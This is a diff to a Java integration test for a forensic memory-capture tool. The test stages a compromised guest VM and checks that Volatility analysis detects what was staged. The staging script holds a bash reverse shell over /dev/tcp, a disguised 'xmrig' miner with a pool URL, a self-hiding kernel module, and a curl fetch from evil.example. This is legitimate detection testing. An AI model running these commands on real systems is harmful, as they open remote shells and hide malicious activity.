@@ -54,6 +54,7 @@ class MemoryCaptureIT {
       ok(cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
       ok(cli.custody("case", "open", "--case", "IR-MEM", "--examiner", "Jane Doe"));
       SsmAgentEmulator agent = aws.agent(guest);
+      agent.hostSetup = COMPROMISED_HOST;
       Run acquire = aws.acquire(agent, "IR-MEM", "--timeout", "15m", "--json");
       LimeGuest.Boot boot = agent.boot.get();
       assertThat(agent.error.get()).as("agent: %s", agent.error.get()).isNull();
@@ -89,17 +90,102 @@ class MemoryCaptureIT {
 
       // custody analyze memory finds the same banner and records its report in the case
       Run analyze = cli.custody("analyze", "memory", "--case", "IR-MEM", "--item", instanceId, "--json");
-      assertThat(analyze.exit()).as(analyze.err()).isZero();
+      assertThat(analyze.exit()).as(analyze.err()).isIn(0, 1);
       JsonNode a = Json.mapper().readTree(analyze.out());
       List<String> banners = new ArrayList<>();
       a.path("banners").forEach(b -> banners.add(b.path("text").asText()));
       assertThat(banners).contains(banner);
       assertThat(a.path("banners").get(0).path("physical_address").asText()).startsWith("0x");
 
+      // (d) from the image and the symbols the host sent, nothing else: Volatility 3 reads the kernel's
+      // structures and finds what the guest's own ps, netstat and /proc/modules said before the capture
+      assertThat(report.path("symbols_item").asText()).as(acquire.err()).startsWith("item-");
+      JsonNode k = a.path("kernel");
+      assertThat(k.path("status").asText()).as("kernel view: %s\n%s", k, analyze.err()).isEqualTo("ok");
+      assertThat(analyze.exit()).as("findings make exit 1").isEqualTo(1);
+      Map<Long, String> seenPids = new java.util.HashMap<>();
+      k.path("processes").forEach(p -> seenPids.put(p.path("pid").asLong(), p.path("comm").asText()));
+      String ps = boot.between("HOST-PS-BEGIN", "HOST-PS-END");
+      int listed = 0;
+      for (String line : ps.strip().split("\n")) {
+        String[] f = line.strip().split("\\s+", 4);
+        if (f.length < 3 || !f[0].matches("\\d+") || f[2].equals("ps")) {
+          continue; // the header, and ps itself (gone before the capture)
+        }
+        listed++;
+        assertThat(seenPids).as("pid %s of the guest's ps (%s) in Volatility's process list", f[0], line).containsKey(Long.parseLong(f[0]));
+      }
+      assertThat(listed).isGreaterThan(10);
+      long miner = Long.parseLong(marker(boot, "HOST-MINER-PID"));
+      long shell = Long.parseLong(marker(boot, "HOST-SHELL-PID"));
+      JsonNode minerProc = null;
+      for (JsonNode p : k.path("processes")) {
+        if (p.path("pid").asLong() == miner) {
+          minerProc = p;
+        }
+      }
+      assertThat(minerProc).as("the miner's pid %d", miner).isNotNull();
+      assertThat(minerProc.path("exe").asText()).isEqualTo("/var/tmp/.x/xmrig");
+      assertThat(minerProc.path("args").asText()).contains("stratum+tcp://pool.minexmr.example:4444");
+      boolean connection = false;
+      for (JsonNode sock : k.path("sockets")) {
+        connection |= sock.path("pid").asLong() == shell && "4445".equals(sock.path("destination_port").asText())
+            && "ESTABLISHED".equals(sock.path("state").asText());
+      }
+      assertThat(connection).as("the reverse shell's connection to 127.0.0.1:4445 with pid %d in %s", shell, k.path("sockets")).isTrue();
+      boolean hidden = false;
+      for (JsonNode m : k.path("modules")) {
+        hidden |= m.path("name").asText().equals("custody_hideme") && m.path("hidden").asBoolean();
+      }
+      assertThat(hidden).as("custody_hideme reported hidden: %s", k.path("modules")).isTrue();
+      assertThat(boot.between("HOST-MODULES-BEGIN", "HOST-MODULES-END")).doesNotContain("custody_hideme");
+      List<String> findings = new ArrayList<>();
+      a.path("findings").forEach(f -> findings.add(f.path("rule_id").asText() + " " + f.path("address").asText()));
+      assertThat(findings).contains("memory-process-from-temp-dir pid " + miner + " (xmrig)", "memory-miner-command-line pid " + miner + " (xmrig)",
+          "memory-reverse-shell pid " + shell + " (bash)");
+      assertThat(findings).anyMatch(f -> f.startsWith("memory-hidden-module module custody_hideme"));
+      boolean history = false;
+      for (JsonNode b : k.path("bash")) {
+        history |= b.path("pid").asLong() == shell && b.path("command").asText().contains("evil.example");
+      }
+      assertThat(history).as("the reverse shell's history: %s", k.path("bash")).isTrue();
+      System.out.println("volatility plugins: " + k.path("plugins"));
+
       var kase = CaseStore.at(home, Clock.systemUTC()).load("IR-MEM");
       assertThat(Acquisitions.state(kase.log().verify().entries(), instanceId, "memory")).isEqualTo(Acquisitions.State.SUCCEEDED);
       assertThat(kase.log().verify().intact()).isTrue();
     }
+  }
+
+  /**
+   * The state of a compromised host, made before the capture command runs, and what the host itself
+   * says about it (through the serial console, not the image): a "miner" run from /var/tmp with a pool
+   * on its command line (bash-static copied there, waiting on a FIFO so it makes no children), an
+   * interactive shell whose standard streams are a TCP connection to a listener on the guest's loopback
+   * (a reverse shell; the listener sends it two commands for its history), and a kernel module that
+   * unlinks itself from the module list (tests/guest/hideme).
+   */
+  static final String COMPROMISED_HOST = """
+      insmod /lib/custody_hideme.ko || echo HOST-HIDEME-FAILED
+      mkdir -p /var/tmp/.x && cp /bin/bash /var/tmp/.x/xmrig && mkfifo /var/tmp/.x/f
+      sleep 100000 > /var/tmp/.x/f &
+      /var/tmp/.x/xmrig -c 'read line' xmrig --donate-level 1 -o stratum+tcp://pool.minexmr.example:4444 < /var/tmp/.x/f >/dev/null 2>&1 &
+      echo "HOST-MINER-PID $!"
+      (printf 'id\ncurl -s http://evil.example/x.sh -o /dev/null\n'; sleep 100000) | nc -l -p 4445 > /dev/null 2>&1 &
+      sleep 1
+      bash -c 'exec bash -i <>/dev/tcp/127.0.0.1/4445 >&0 2>&0' &
+      echo "HOST-SHELL-PID $!"
+      sleep 3
+      echo HOST-PS-BEGIN; ps -o pid,ppid,comm,args; echo HOST-PS-END
+      echo HOST-NET-BEGIN; netstat -tan; echo HOST-NET-END
+      echo HOST-MODULES-BEGIN; cat /proc/modules; echo HOST-MODULES-END
+      ls -d /sys/module/custody_hideme
+      """;
+
+  private static String marker(LimeGuest.Boot boot, String name) {
+    java.util.regex.Matcher m = java.util.regex.Pattern.compile(name + " (\\d+)").matcher(boot.serial());
+    assertThat(m.find()).as("%s in the guest's console:\n%s", name, boot.job()).isTrue();
+    return m.group(1);
   }
 
   /**
